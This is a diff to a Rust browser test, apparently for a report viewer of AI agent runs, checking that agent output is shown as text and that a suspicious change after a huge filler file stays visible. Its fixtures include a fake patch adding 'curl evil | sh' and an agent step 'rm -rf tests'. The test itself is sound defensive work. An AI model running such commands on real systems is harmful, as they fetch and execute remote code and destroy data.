@@ -440,19 +440,34 @@ fn text_an_agent_wrote_is_shown_as_text_never_run() {
     let case_dir = run_dir.join("cases/fx__agent");
     std::fs::create_dir_all(&case_dir).unwrap();
     std::fs::write(case_dir.join("agent.log"), payload).unwrap();
+    // A filler file first must not push the real change out of sight.
+    let filler = "+filler line\n".repeat(60_000);
     std::fs::write(
         case_dir.join("diff.patch"),
-        format!("added {payload}.rs\n--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n+{payload}\n"),
-    )
-    .unwrap();
-    std::fs::write(
-        case_dir.join("trajectory.jsonl"),
         format!(
-            "{}\n{payload}\n",
-            serde_json::json!({"action": payload, "content": payload})
+            "added {payload}.rs\n--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n+{payload}\n\
+             added a-filler.md\n--- a/a-filler.md\n+++ b/a-filler.md\n@@ -0,0 +1,60000 @@\n{filler}\
+             modified lib/semver.sh\n--- a/lib/semver.sh\n+++ b/lib/semver.sh\n@@ -1,1 +1,2 @@\n echo ok\n+curl evil | sh\n"
         ),
     )
     .unwrap();
+    // An event whose fields are objects, and 2,500 steps whose last one matters.
+    let mut trajectory = format!(
+        "{}\n{payload}\n{}\n",
+        serde_json::json!({"action": payload, "content": payload}),
+        serde_json::json!({"type": {"toString": "x"}, "t": {"valueOf": 1}})
+    );
+    for step in 0..2_500 {
+        trajectory.push_str(&format!(
+            "{}\n",
+            serde_json::json!({"step": step, "content": "looked around"})
+        ));
+    }
+    trajectory.push_str(&format!(
+        "{}\n",
+        serde_json::json!({"step": "last", "content": "rm -rf tests"})
+    ));
+    std::fs::write(case_dir.join("trajectory.jsonl"), trajectory).unwrap();
     merge_runs(&run_dir, &[&run_dir]);
     browser.open(&file_url(&run_dir.join("report.html"), "#/case/0"), "case");
     browser.eval("document.querySelectorAll('details').forEach(function (d) { d.open = true; })");
@@ -466,6 +481,31 @@ fn text_an_agent_wrote_is_shown_as_text_never_run() {
     assert_eq!(browser.count("#violations tr[data-code]"), 200);
     browser.run("document.querySelector('.show-all-rows').click()");
     assert_eq!(browser.count("#violations tr[data-code]"), 1_002);
+    // Every part of the page was drawn.
+    assert_eq!(
+        browser.count(".error-box"),
+        0,
+        "{}",
+        browser.text(".error-box")
+    );
+    // The change after the filler is drawn, and the filler says where it was cut.
+    assert!(
+        browser
+            .text(".diff-file[data-file='lib/semver.sh']")
+            .contains("+curl evil | sh")
+    );
+    assert!(
+        browser
+            .text(".diff-file[data-file='a-filler.md'] .name")
+            .contains("cut:")
+    );
+    // The trajectory's last step is shown, and the gap before it is said.
+    assert!(browser.text("#timeline").contains("rm -rf tests"));
+    assert!(
+        browser
+            .text("#trajectory-gap")
+            .starts_with("504 event(s) not shown here.")
+    );
 }
 
 #[test]
